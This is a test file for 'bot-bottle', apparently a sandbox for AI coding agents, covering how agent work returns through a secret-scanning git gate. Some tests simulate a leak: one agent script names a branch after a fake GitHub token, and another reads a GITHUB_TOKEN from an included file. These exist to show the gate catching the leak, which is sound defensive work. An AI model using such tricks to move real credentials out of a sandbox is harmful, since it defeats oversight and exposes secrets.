    assert.doesNotMatch(down.stderr, /\/wip/, "the user's own draft is not the agent's work");
    assert.equal(
      await git(repo, [
        "diff",
        `bot-bottle/${name}/submodule/vendor/lib~1`,
        `bot-bottle/${name}/submodule/vendor/lib`,
        "--",
        "lib.ts",
      ]).then((d) => d.includes("+export const x = 1;")),
      true,
    );

    const up2 = await runBotBottle(["up", "claude", "--cwd", "--include", "config/settings.py"], {
      cwd: repo,
      env,
    });
    assert.equal(up2.code, 0, up2.stderr);
    const name2 = up2.stdout.trim();
    let down2;
    try {
      assert.match(
        up2.stderr,
        /Carried although it holds a secret \(--include\): config\/settings\.py/,
      );
      const r = await runBotBottle(["exec", name2, "--", "sh", "-c", look], { env });
      assert.match(r.stdout, /GITHUB_TOKEN/);
    } finally {
      down2 = await runBotBottle(["down", name2], { env });
    }
    assert.equal(down2.code, 0, down2.stderr);
  },
);

/**
 * `up --cwd` in `cwd`, `script` run in the agent with `exec`, then `down`; each must
 * succeed. Returns the bottle's name, what the script printed and what `down` said.
 */
async function upWorkDown(
  cwd: string,
  env: Record<string, string>,
  script: string,
): Promise<{ name: string; work: string; down: string }> {
  const up = await runBotBottle(["up", "claude", "--cwd"], { cwd, env });
  assert.equal(up.code, 0, up.stderr);
  const name = up.stdout.trim();
  const work = await runBotBottle(["exec", name, "--", "sh", "-c", script], { env });
  assert.equal(work.code, 0, work.stderr);
  const down = await runBotBottle(["down", name], { env });
  assert.equal(down.code, 0, down.stderr);
  return { name, work: work.stdout, down: down.stderr };
}

dockerTest(
  "a file left out of the bottle for its secret, written anew by the agent, comes home in its wip and the summary says so",
  async () => {
    await using upstream = await startUpstream(["api.anthropic.com"], "ok");
    await using dir = await tempDir();
    const { repo, env } = await project(dir.path, upstream);
    const token = `ghp_${crypto.randomUUID().replaceAll("-", "").slice(0, 36).padEnd(36, "x")}`;
    const settings = `token: ${token}\nport: 80\n`;
    await Deno.writeTextFile(join(repo, "settings.yml"), settings);
    await git(repo, ["add", "."]);
    await git(repo, ["commit", "-qm", "user: settings"]);
    // The agent finds no settings.yml (nor can git give it one) and writes its own.
    const { name, work, down } = await upWorkDown(
      repo,
      env,
      "test ! -e settings.yml && git show HEAD:settings.yml 2>&1; " +
        "printf 'port: 8080\\n' > settings.yml",
    );
    assert.match(work, /this file version holds a secret and stayed out of the bottle/);
    assert.match(
      down,
      new RegExp(
        `Note: the agent wrote settings\\.yml, which stayed out of the bottle because it holds a secret: bot-bottle/${name}/wip has its version`,
      ),
    );
    assert.equal(await git(repo, ["show", `bot-bottle/${name}/wip:settings.yml`]), "port: 8080\n");
    assert.equal(await Deno.readTextFile(join(repo, "settings.yml")), settings, "yours untouched");
  },
);

dockerTest(
  "up, exec, down: down brings the work home; outside git it comes home as a patch",
  async () => {
    await using upstream = await startUpstream(["api.anthropic.com"], "ok");
    await using dir = await tempDir();
    const { env, state } = await project(dir.path, upstream);
    const plain = join(dir.path, "plain");
    await Deno.mkdir(plain);
    await Deno.writeTextFile(join(plain, "notes.txt"), "line one\n");
    const plan = await runBotBottle(["plan", "claude", "--cwd"], { cwd: plain, env });
    assert.match(plan.stdout, /not a git repository: copied whole/);
    const { name, down } = await upWorkDown(
      plain,
      env,
      "echo 'line two' >> notes.txt && git add -A && git commit -qm 'agent: second line' && echo new > new.txt",
    );
    assert.match(
      down,
      new RegExp(`Work from ${name} came home to ${state}/work/${name}/home.git`),
    );
    assert.equal(
      await Deno.readTextFile(join(plain, "notes.txt")),
      "line one\n",
      "the directory is untouched",
    );
    const patch = /patch: (\S+main\.patch)/.exec(down)?.[1];
    assert.ok(patch, down);
    assert.match(await Deno.readTextFile(patch), /\+line two/);
    const apply = await captureRaw($`git -C ${plain} apply --check ${patch}`);
    assert.equal(apply.code, 0, apply.stderr);
    const wip = /patch: (\S+wip\.patch)/.exec(down)?.[1];
    assert.match(await Deno.readTextFile(wip!), /\+new/);
  },
);

dockerTest(
  "--cwd in a linked worktree: the agent starts on its branch with its uncommitted files, and the work comes home to the shared repository, both checkouts unchanged",
  async () => {
    await using upstream = await startUpstream(["api.anthropic.com"], "ok");
    await using dir = await tempDir();
    const { repo, env } = await project(dir.path, upstream);
    const wt = join(dir.path, "wt");
    await git(repo, ["worktree", "add", "-q", wt, "-b", "topic"]);
    await Deno.writeTextFile(join(wt, "draft.txt"), "the user's draft\n");
    const checkout = async () =>
      (await git(wt, ["rev-parse", "HEAD"])) +
      (await git(wt, ["status", "--porcelain", "--ignored"]));
    const before = { main: await snapshot(repo), wt: await checkout() };
    const { name, work, down } = await upWorkDown(
      wt,
      env,
      "git rev-parse --abbrev-ref HEAD && cat draft.txt && echo more > topic.txt && " +
        "git add topic.txt && git commit -qm 'agent: topic' && echo committed",
    );
    assert.match(work, /^topic\n(.|\n)*the user's draft\n(.|\n)*committed/, work);
    assert.match(down, new RegExp(`Work from ${name} came home to ${wt}`));
    assert.equal(
      await git(repo, ["log", "--format=%s", `bot-bottle/${name}/topic`]),
      "agent: topic\nuser: first\n",
      "the branch came home to the repository the worktrees share",
    );
    assert.deepEqual(await snapshot(repo), before.main, "the main checkout changed");
    assert.equal(await checkout(), before.wt, "the worktree changed");
  },
);

dockerTest(
  "uncommitted files too large for the gate to check are kept; the rest of the uncommitted work comes home",
  async () => {
    await using upstream = await startUpstream(["api.anthropic.com"], "ok");
    await using dir = await tempDir();
    const { repo, env } = await project(dir.path, upstream);
    await Deno.writeTextFile(join(repo, "data.txt"), "small\n");
    await git(repo, ["add", "."]);
    await git(repo, ["commit", "-qm", "user: data"]);
    // A build output over the gate's 32 MiB scan limit, a changed file, and a new one;
    // and a branch named for a token.
    const token = `ghp_${crypto.randomUUID().replaceAll("-", "").slice(0, 36).padEnd(36, "x")}`;
    const { name, down } = await upWorkDown(
      repo,
      env,
      `git checkout -qb 'leak-${token}' && echo x > x.txt && git add x.txt && git commit -qm x && ` +
        "git checkout -q main && " +
        "head -c 34000000 /dev/urandom > 'build output.bin' && echo changed > data.txt && echo new > notes.txt",
    );
    assert.match(down, /the git gate checks the agent's work \(3 refs\)/);
    // Refused, and named without the token, here and in the summary kept beside the work.
    assert.match(
      down,
      /\[name holding a secret\]:\n +the ref's name holds a secret: GitHub token \(rule github-token\)/,
    );
    assert.ok(!down.includes(token), down);
    assert.match(down, new RegExp(`bot-bottle/${name}/wip +uncommitted and untracked work`));
    assert.match(
      down,
      /uncommitted files too large for the gate to check:\n +build output\.bin is 32\.4 MiB, over the gate's scan limit of 32\.0 MiB/,
    );
    const wip = `bot-bottle/${name}/wip`;
    assert.equal(await git(repo, ["show", `${wip}:data.txt`]), "changed\n");
    assert.equal(await git(repo, ["show", `${wip}:notes.txt`]), "new\n");
    const files = await git(repo, ["ls-tree", "-r", "--name-only", wip]);
    assert.ok(!files.includes("build output.bin"), files);
    // Kept, with the rest, in the bundle the summary names.
    const kept = /kept in (\S+\.bundle)/.exec(down)?.[1];
    assert.ok(kept, down);
    const heads = await captureRaw($`git -C ${repo} bundle list-heads ${kept}`);
    assert.match(heads.stdout, /refs\/bot-bottle\/wip-large/);
    assert.ok(!(await Deno.readTextFile(join(dirname(kept), "summary.txt"))).includes(token));
  },
);
